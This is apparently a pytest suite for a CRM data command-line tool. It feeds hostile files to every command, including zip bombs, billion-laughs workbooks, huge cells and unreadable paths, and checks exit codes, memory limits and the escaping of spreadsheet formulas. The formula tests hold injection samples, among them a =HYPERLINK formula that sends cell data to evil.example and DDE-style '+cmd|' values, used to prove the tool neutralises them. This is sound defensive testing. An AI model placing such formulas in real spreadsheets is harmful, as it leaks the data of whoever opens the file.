"""Hostile input: the corpus (tests/corpus.py) and the public CSV/XLSX suites, read by the library
and run through every command: ``inspect``, ``clean`` (CSV and xlsx output), ``validate``,
``dedupe``, ``rfm``, ``metrics``, ``pivot`` (``--rows`` on the first column), ``report``, ``clv`` and
``forecast``.

Every file goes through every command, except the two slowest readers' files
(``columns_16384.csv`` and ``styled_empty_rows_1m.xlsx``, ~1-5 s per command), which only
``inspect``, ``clean-csv``/``clean-xlsx`` (see ``SWEEP_SKIP``) and the memory test run; the reader
path they stress is the same for every command. Files the reader must refuse must be refused with
exit 3 by every command; files it must read must never end in exit 3.

Exit codes per command (DESIGN.md: 1 = the data fails, 2 = the call is wrong):

- ``validate``: 0, or 1 when the data has errors (``--fail-on error``, the default);
- ``dedupe``: 0, or 2 when no column maps to a compared field (hint: ``--on COLUMN:KIND``);
- ``rfm`` / ``metrics`` / ``report`` / ``clv`` / ``forecast``: 2 when the table has no order date / amount / customer column
  (a missing column is a usage error; the hint names ``--map FIELD=COLUMN`` and the columns), 1 when
  the columns are there but no row is a usable order (every date or amount invalid) — and for ``clv`` /
  ``forecast`` when the orders are too few for the model;
- ``pivot``: 0 (any column can be a row field).

A table of every file's outcome is printed at the end of the run (see conftest.py). To add a
command to the sweep, add an entry to ``COMMANDS``: ``label -> (args_builder, allowed exit codes,
keeps rows aligned with the input)``.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

import pytest

from crmcli.errors import CrmError
from crmcli.io import read_table, source_info
from crmcli.schema import map_columns
from tests.conftest import PUBLIC, ROOT
from tests.corpus import Case, build_corpus, cases
from tests import hostile
from tests.hostile import check_command, run_cli

#: The sweep runs every command over ~150 files (~2.5 min here): CI and the full run, not the inner loop.
pytestmark = pytest.mark.slow

SPECIAL = ["a_directory.csv", "unreadable.csv", "missing.csv", "loop.csv", "dev_zero"]
CORPUS_NAMES = [c.name for c in cases()] + SPECIAL


def _public_cases() -> list[Case]:
    manifest = PUBLIC / "MANIFEST.tsv"
    if not manifest.exists():
        return []
    out = []
    with open(manifest, encoding="utf-8", newline="") as fh:
        for rec in csv.DictReader(fh, delimiter="\t"):
            sentinels = tuple(s for s in (rec.get("sentinels") or "").split("|") if s)
            out.append(Case("public/" + rec["file"], rec["expect"] or "either", rec["tests"], lambda p: None,
                            sentinels=sentinels, path=PUBLIC / "files" / rec["file"]))
    return out


PUBLIC_CASES = {c.name: c for c in _public_cases()}
ALL_NAMES = CORPUS_NAMES + list(PUBLIC_CASES)

#: Exit codes that a correct run may end with beyond 0/3, per (file, command).
# values longer than 32,767 characters do not fit an Excel cell: xlsx output is refused (exit 4)
OUTPUT_LIMITS = {("cell_1mib.csv", "clean-xlsx"): 4, ("line_150kib.csv", "clean-xlsx"): 4}


#: Left out of the command sweep to keep the suite fast: clean's per-column summary (issue 3) takes
#: ~6 s per output on 16,384 columns; the reader and inspect still cover that file.
SWEEP_SKIP = {("columns_16384.csv", "clean-csv"), ("columns_16384.csv", "clean-xlsx")}
#: The commands added after inspect/clean skip the two slowest files (see the module docstring).
HEAVY_FILES = ("columns_16384.csv", "styled_empty_rows_1m.xlsx")
NEW_COMMANDS = ("validate", "dedupe", "rfm", "metrics", "pivot", "basket", "pipeline", "report", "clv", "forecast")
SWEEP_SKIP |= {(f, c) for f in HEAVY_FILES for c in NEW_COMMANDS}


@pytest.fixture(scope="session")
def corpus(tmp_path_factory) -> dict[str, Case]:
    folder = tmp_path_factory.mktemp("corpus")
    built = {c.name: c for c in build_corpus(folder)}
    yield {**built, **PUBLIC_CASES}
    locked = folder / "unreadable.csv"
    if locked.exists():
        os.chmod(locked, 0o644)  # let pytest clean up


def _read(case: Case):
    return read_table(case.path, **case.options)


# --------------------------------------------------------------------------- the reader


def _independent_fields(case: Case, df) -> list[str]:
    """Every non-blank field of a text input as Python's csv module splits it (with the encoding and
    delimiter the reader detected), from the header row on."""
    info = source_info(df)
    if info.format not in ("csv", "tsv"):
        return []
    codec = {"utf-8-sig": "utf-8-sig", "utf-16": "utf-16", "utf-32": "utf-32"}.get(info.encoding, info.encoding)
    text = case.path.read_bytes().decode(codec).lstrip("\ufeff").rstrip("\x1a")
    recs = list(csv.reader(io.StringIO(text, newline=""), delimiter=info.delimiter, strict=False))
    return [f for rec in recs[(info.header_row or 1) - 1:] for f in rec if f.strip()]


@pytest.mark.parametrize("name", ALL_NAMES)
def test_reader(corpus, name):
    """read_table either reads exactly or raises CrmError (one line): never another exception."""
    case = corpus[name]
    try:
        df = _read(case)
    except CrmError as exc:
        assert "\n" not in str(exc)
        assert case.expect in ("error", "either"), f"{name} was refused: {exc}"
        return
    assert case.expect in ("read", "either"), f"{name} was read but must be refused ({df.shape})"
    info = source_info(df)
    assert all(df[c].dtype == "str" for c in df.columns)
    assert df.index.name == "row" and df.index.is_unique
    assert list(df.columns) == list(dict.fromkeys(df.columns)), "column names must be unique"
    for (row, col), want in case.cells.items():
        assert col in df.columns, f"{name}: no column {col!r} in {list(df.columns)[:8]}"
        assert row in df.index, f"{name}: no row {row} in {list(df.index)[:8]}"
        assert df.at[row, col] == want, f"{name}: row {row} {col!r} = {df.at[row, col]!r}, want {want!r}"
    if case.columns is not None:
        assert tuple(df.columns) == case.columns
    if case.rows is not None:
        assert len(df) == case.rows
    codes = {p["code"] for p in info.problems}
    for code in case.problems:
        assert code in codes, f"{name}: problem {code!r} not reported ({sorted(codes)})"
    values = set(df.columns) | {v for c in df.columns for v in df[c].tolist()}
    for s in case.sentinels:
        assert any(s in v for v in values), f"{name}: {s!r} lost"
    # nothing dropped: every field the csv module sees is a value or a header of the frame
    names = {" ".join(str(c).split()) for c in df.columns}
    missing = [f for f in _independent_fields(case, df) if f not in values and " ".join(f.split()) not in names]
    assert not missing, f"{name}: values lost: {missing[:5]}"


# --------------------------------------------------------------------------- the commands


def _opts(case: Case) -> list[str]:
    return ["--encoding", case.options["encoding"]] if "encoding" in case.options else []


COMMANDS = {
    "inspect": (lambda case, src, out: ["inspect", src, "--json", *_opts(case)], (0, 3), False),
    "clean-csv": (lambda case, src, out: ["clean", src, "-o", out / "cleaned.csv", "--issues", out / "issues.csv",
                                          "-q", *_opts(case)], (0, 3), True),
    "clean-xlsx": (lambda case, src, out: ["clean", src, "-o", out / "cleaned.xlsx", "-q", *_opts(case)],
                   (0, 3), True),
    "validate": (lambda case, src, out: ["validate", src, "--issues", out / "issues.csv", "-q", *_opts(case)],
                 (0, 1, 3), False),
    "dedupe": (lambda case, src, out: ["dedupe", src, "-o", out / "deduped.csv", "--clusters", out / "clusters.xlsx",
                                       "-q", *_opts(case)], (0, 2, 3), False),
    "rfm": (lambda case, src, out: ["rfm", src, "-o", out / "rfm.xlsx", "-q", *_opts(case)], (0, 1, 2, 3), False),
    "metrics": (lambda case, src, out: ["metrics", src, "-o", out / "metrics.csv", "-q", *_opts(case)],
                (0, 1, 2, 3), False),
    "pivot": (lambda case, src, out: ["pivot", src, "--rows", _first_column(case), "-o", out / "pivot.csv", "-q",
                                      *_opts(case)], (0, 3), False),
    # clv / forecast: 1 when the orders cannot support the model (too few customers, too short a history)
    "clv": (lambda case, src, out: ["clv", src, "-o", out / "clv.xlsx", "-q", *_opts(case)], (0, 1, 2, 3), False),
    "forecast": (lambda case, src, out: ["forecast", src, "-o", out / "forecast.csv", "-q", *_opts(case)],
                 (0, 1, 2, 3), False),
    "basket": (lambda case, src, out: ["basket", src, "-o", out / "basket.xlsx", "-q", *_opts(case)],
               (0, 1, 2, 3), False),
    "pipeline": (lambda case, src, out: ["pipeline", src, "-o", out / "pipeline.csv", "-q", *_opts(case)],
                 (0, 1, 2, 3), False),
    # report has no --encoding: files that need one are refused like any undecodable input
    "report": (lambda case, src, out: ["report", src, "-o", out / "report.xlsx", "-q"], (0, 1, 2, 3), False),
}


def _first_column(case: Case) -> str:
    """The first header of the file as read (any name when it cannot be read: the command refuses it anyway)."""
    try:
        cols = list(_read(case).columns)
    except CrmError:
        return "x"
    return str(cols[0]) if cols else "x"


@pytest.mark.parametrize("name", ALL_NAMES)
@pytest.mark.parametrize("command", list(COMMANDS))
def test_command(corpus, tmp_path, command, name):
    if (name, command) in SWEEP_SKIP:
        pytest.skip("slow for this command; see SWEEP_SKIP")
    case = corpus[name]
    build, allowed, aligned = COMMANDS[command]
    extra = OUTPUT_LIMITS.get((name, command))
    expect_code = {"read": 0, "error": 3}.get(case.expect) if extra is None else extra
    if command in NEW_COMMANDS and extra is None:
        # a file the reader must refuse: exit 3; one it must read: any allowed code but 3
        expect_code = 3 if case.expect == "error" else None
        if case.expect == "read" and not (command == "report" and "encoding" in case.options):
            allowed = tuple(c for c in allowed if c != 3)
    reference = exact = None
    if aligned and case.expect != "error":
        try:
            reference = _read(case)
            mapped = map_columns(reference.columns)
            exact = [c for c in reference.columns if c not in mapped]
        except CrmError:
            reference = None
    outputs = (lambda out: [p for p in (out / "cleaned.csv", out / "cleaned.xlsx", out / "issues.csv")
                            if p.exists()]) if aligned else None
    res = check_command(lambda src, out: build(case, src, out), case.path, tmp_path / "out",
                        label=command, allowed={*allowed, *([extra] if extra else [])}, outputs=outputs,
                        reference=reference, exact=exact or (), expect_code=expect_code)
    if command == "inspect" and res.exit_code == 0:
        desc = json.loads(res.stdout)
        assert desc["rows"] == len(reference if reference is not None else _read(case))


@pytest.mark.parametrize("name", [n for n in CORPUS_NAMES if n not in SPECIAL])
def test_inspect_stdin(corpus, name):
    """The same bytes on stdin (no file name to go by): the same answer as from the file."""
    case = corpus[name]
    res = run_cli(["inspect", "-", "--json", *_opts(case)], input=case.path.read_bytes())
    assert "Traceback" not in res.stderr and "unexpected" not in res.stderr, res.stderr
    if case.expect == "read" and not name.endswith(".json") and "json" not in name:
        assert res.exit_code == 0, res.stderr
    elif case.expect == "error" and name not in STDIN_READS:
        assert res.exit_code == 3, res.stderr
    assert res.exit_code in (0, 3)


#: Refused from a file because of the file name only (a text file named .xls is not refused from stdin).
STDIN_READS: set[str] = set()


# --------------------------------------------------------------------------- memory

MEMORY_CASES = ["cell_1mib.csv", "line_150kib.csv", "columns_16384.csv", "columns_100k.csv",
                "styled_empty_rows_1m.xlsx", "zip_bomb_500m.xlsx", "billion_laughs_sheet.xlsx",
                "quadratic_blowup.xlsx", "nul_and_controls.csv"]
MEMORY_LIMIT_MB = 400

_DRIVER = r"""
import json, os, resource, sys
from crmcli.cli import app
out = {}
for path in sys.argv[1:]:
    pid = os.fork()
    if pid == 0:
        sys.argv = ["crm", "inspect", path, "-q"]
        try:
            app()
        except SystemExit as e:
            os._exit(e.code if isinstance(e.code, int) else 0)
        os._exit(0)
    _, status, usage = os.wait4(pid, 0)
    out[os.path.basename(path)] = [os.waitstatus_to_exitcode(status), usage.ru_maxrss / 1024]
print(json.dumps(out))
"""


@pytest.mark.slow
@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs fork and wait4")
def test_memory_stays_small(corpus, record_property, capsys):
    """Peak RSS of `crm inspect` (baseline with pandas included) on the big and the bomb cases."""
    paths = [str(corpus[n].path) for n in MEMORY_CASES]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.run([sys.executable, "-c", _DRIVER, *paths], capture_output=True, env=env, timeout=300)
    assert proc.returncode == 0, proc.stderr.decode()[-2000:]
    peaks = json.loads(proc.stdout)
    with capsys.disabled():
        print("\npeak RSS of crm inspect (MB): " + ", ".join(f"{k} {v[1]:.0f} (exit {v[0]})" for k, v in peaks.items()))
    for name, (code, mb) in peaks.items():
        record_property(f"maxrss_mb:{name}", round(mb))
        assert code in (0, 3), f"{name}: exit {code}"
        assert mb < MEMORY_LIMIT_MB, f"{name}: {mb:.0f} MB"


# --------------------------------------------------------------------------- fuzzing the commands

from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

_CELLS = st.one_of(st.text(max_size=12), st.sampled_from(
    ["=1+2", "138 1234 5678", "2024/3/5", "¥1,234", "合计", "NA", "", "1e5", "-3", "a@b.c", "20240230", "１２．５"]))
_HEADS = st.lists(st.sampled_from(["电话", "金额", "下单日期", "客户名称", "email", "订单号", "客户ID", "数量", "x", "",
                                   "phone", "date", "amount"]), min_size=1, max_size=6)


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(head=_HEADS, rows=st.lists(st.lists(_CELLS, max_size=7), max_size=6), fmt=st.sampled_from(["csv", "xlsx"]))
def test_fuzz_clean_and_inspect_from_stdin(tmp_path, head, rows, fmt):
    """Messy mapped columns (phones, dates, amounts, ids) in ragged rows: never a bug, never a formula."""
    buf = io.StringIO()
    csv.writer(buf).writerows([head, *rows])
    data = buf.getvalue().encode()
    out = tmp_path / f"o.{fmt}"
    for args in (["clean", "-", "-o", out, "-q"], ["inspect", "-"]):
        res = run_cli(args, input=data)
        assert "unexpected" not in res.stderr and "Traceback" not in res.stderr, (res.stderr, data)
        assert res.exit_code in (0, 3), (res.stderr, data)
    if out.exists():
        from tests.hostile import assert_no_live_formula

        assert_no_live_formula(out)


# --------------------------------------------------------------------------- formula escaping, every output

_FORMULA_RUNS = {
    "validate": lambda src, o, x: ["validate", src, "--issues", o / f"issues.{x}", "--fail-on", "never"],
    "clean": lambda src, o, x: ["clean", src, "-o", o / f"cleaned.{x}", "--issues", o / f"issues.{x}"],
    "dedupe": lambda src, o, x: ["dedupe", src, "-o", o / f"deduped.{x}", "--clusters", o / f"clusters.{x}",
                                 "--pairs", o / f"pairs.{x}", "--review", o / f"review.{x}", "--threshold", "0.5"],
    "rfm": lambda src, o, x: ["rfm", src, "-o", o / f"rfm.{x}"],
    "metrics-group": lambda src, o, x: ["metrics", src, "-o", o / f"metrics.{x}", "--group", "产品"],
    "metrics-cohorts": lambda src, o, x: ["metrics", src, "-o", o / f"kpis.{x}", "--by", "month",
                                          "--cohorts", o / f"cohorts.{x}"],
    "pivot": lambda src, o, x: ["pivot", src, "--rows", "产品,客户名称", "--cols", "渠道", "--values", "金额",
                                "-o", o / f"pivot.{x}"],
    "pivot-ids": lambda src, o, x: ["pivot", src, "--rows", "订单号", "--values", "金额", "--agg", "max",
                                    "-o", o / f"pivot_ids.{x}"],
    "report": lambda src, o, x: ["report", src, "--customers", src, "-o", o / "report.xlsx"],
}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("source", ["orders_hostile.csv", "orders_hostile.xlsx"])
@pytest.mark.parametrize("command", list(_FORMULA_RUNS))
def test_no_live_formula_in_any_output(corpus, tmp_path, command, source, fmt):
    """Customers named =HYPERLINK(…), products @SUM(A1), channels +cmd|…/-2+3/=A1, an order id =1+1: every
    command's every output (CSV escaped with a leading ', xlsx as text cells) holds no live formula, and
    the hostile names reach the outputs (escaped) rather than being dropped."""
    from tests.hostile import assert_no_live_formula, csv_cells

    if command == "report" and fmt == "csv":
        pytest.skip("report writes a workbook only")
    case = corpus[source]
    out = tmp_path / "out"
    res = check_command(lambda src, o: _FORMULA_RUNS[command](src, o, fmt), case.path, out,
                        label=f"formula:{command}", allowed=(0,), expect_code=0)
    hostile.OUTCOMES.pop()  # not a sweep column: keep the outcome table one column per swept command
    written = sorted(p for p in out.iterdir() if p.is_file())
    assert written, res.stderr
    for path in written:
        assert_no_live_formula(path)
    if command in ("dedupe", "clean", "pivot", "metrics-group"):
        first = written[0] if command != "dedupe" else out / f"deduped.{fmt}"
        if fmt == "csv":
            text = {v for row in csv_cells(first) for v in row}
            want = {"clean": "'" + HYPER_NAME, "dedupe": "'" + HYPER_NAME, "pivot": "'@SUM(A1)",
                    "metrics-group": "'@SUM(A1)"}[command]
            assert want in text, f"{first.name}: {want!r} missing"


@pytest.mark.parametrize("command", ["rfm", "dedupe", "pivot", "validate"])
def test_no_live_formula_on_stdout(corpus, command):
    """`-o -` (CSV on stdout) escapes formula-looking text too."""
    from crmcli.io import is_formula_like

    src = corpus["orders_hostile.csv"].path
    args = {"rfm": ["rfm", src, "-o", "-", "-q"], "dedupe": ["dedupe", src, "-o", "-", "-q"],
            "pivot": ["pivot", src, "--rows", "产品", "-o", "-", "-q"],
            "validate": ["validate", src, "-o", "-", "--fail-on", "never", "-q"]}[command]
    res = run_cli(args)
    assert res.exit_code == 0, res.stderr
    cells = [v for row in csv.reader(io.StringIO(res.stdout)) for v in row]
    assert cells and not [v for v in cells if is_formula_like(v)]


HYPER_NAME = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
